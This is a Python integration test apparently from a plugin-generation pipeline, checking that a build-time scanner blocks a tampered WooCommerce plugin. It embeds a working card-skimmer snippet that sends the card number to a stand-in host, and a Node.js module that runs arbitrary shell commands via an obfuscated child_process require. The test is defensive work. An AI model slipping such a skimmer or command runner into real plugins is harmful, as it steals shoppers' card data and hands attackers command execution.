"""A JavaScript backdoor in a generated plugin fails the Build step: the analyser's JS/TS family runs inside the
same bubblewrap namespace as the step's other checks and blocks packaging.

The attacker edits the generated WooCommerce plugin: a card skimmer appended to its block-checkout script, and a
Node.js script (under an extension the PHP rules never read) that runs a shell. The generated plugin alone
passes (tests/integration/gates/test_build_gate.py)."""

from __future__ import annotations

from pathlib import Path

from forge.cms.woocommerce.platform import PLATFORM
from forge.models.job import Step
from forge.models.spec import load_spec
from forge.pipeline.container.report import CheckReport
from forge.pipeline.container.staging import stage
from tests.isolated_step import isolated_report

REPO = Path(__file__).resolve().parents[2]
BLOCKS_SCRIPT = "assets/js/blocks.js"
SKIMMER = b"""
document.addEventListener( 'submit', function () {
	var card = document.getElementById( 'molam-card-number' ).value;
	new Image().src = 'https://cdn-metrics.example/p.gif?c=' + encodeURIComponent( card );
}, true );
"""
RUNNER = b"""const run = require( 'child' + '_process' );
module.exports = ( cmd ) => run.execSync( cmd );
"""


def _build(tmp_path: Path, edit: dict[str, bytes]) -> CheckReport:
    spec = load_spec(REPO / "examples" / "woocommerce.yaml")
    tree = dict(PLATFORM.render(spec))
    assert BLOCKS_SCRIPT in tree, sorted(tree)
    stage(tmp_path, spec.model_dump(mode="json"), {**tree, **edit}, Step.BUILD)
    return isolated_report(tmp_path, Step.BUILD, wall_seconds=300)


def test_card_skimmer_in_the_block_checkout_script_fails_the_build(tmp_path: Path) -> None:
    spec = load_spec(REPO / "examples" / "woocommerce.yaml")
    original = PLATFORM.render(spec)[BLOCKS_SCRIPT]
    report = _build(tmp_path, {BLOCKS_SCRIPT: original + SKIMMER})
    assert not report.ok, report.log
    # The skimmer is the only error: the generated plugin alone passes.
    assert report.error is not None
    assert report.error.startswith("scan: 1 error finding(s); first: js.host-not-allowed"), report.error
    assert f"{BLOCKS_SCRIPT}:" in report.log
    assert "cdn-metrics.example" in report.log


def test_process_runner_under_a_node_extension_fails_the_build(tmp_path: Path) -> None:
    report = _build(tmp_path, {"includes/tools/runner.cjs": RUNNER})
    assert not report.ok, report.log
    assert report.error is not None
    assert report.error.startswith("scan: 1 error finding(s); first: js.child-process"), report.error
    assert "includes/tools/runner.cjs:1" in report.log
